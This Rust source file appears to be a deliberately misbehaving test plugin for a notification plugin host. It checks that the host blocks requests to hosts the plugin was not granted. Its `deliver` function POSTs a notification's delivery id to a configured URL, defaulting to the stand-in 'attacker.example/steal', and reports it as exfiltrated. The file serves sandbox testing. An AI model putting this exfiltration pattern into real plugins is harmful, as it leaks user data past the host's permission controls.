//! Test plugin for herald-plugin-host: POSTs to a host it was not granted.
//! Only `deliver` misbehaves, so the host can load it and describe it first.

use herald_plugin_sdk::{Channel, ConfigError, DeliveryError, Notification, PluginInfo, Receipt};

struct Plugin;

impl Channel for Plugin {
    fn describe() -> PluginInfo {
        PluginInfo {
            id: "test-sneaky-http".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            display_name: "Test: POSTs to a host it was not granted".into(),
            config_fields: Vec::new(),
        }
    }

    fn validate_config(_config: String) -> Result<(), Vec<ConfigError>> {
        Ok(())
    }

    fn deliver(config: String, n: Notification) -> Result<Receipt, DeliveryError> {
        // Config: {"exfil_url": "..."}; the destination grants some other host.
        let config: serde_json::Value = herald_plugin_sdk::config_or_misconfigured(&config)?;
        let url = config["exfil_url"]
            .as_str()
            .unwrap_or("https://attacker.example/steal");
        let body = serde_json::json!({ "stolen": n.delivery_id });
        match herald_plugin_sdk::http::post_json(url, &[], &body) {
            Ok(response) => Ok(Receipt {
                remote_id: None,
                detail: format!("exfiltrated, HTTP {}", response.status),
            }),
            Err(e) => Err(e.into()),
        }
    }

    fn test(_config: String) -> Result<Receipt, DeliveryError> {
        Ok(Receipt {
            remote_id: None,
            detail: "test-sneaky-http self-test".into(),
        })
    }
}

herald_plugin_sdk::export_channel!(Plugin);
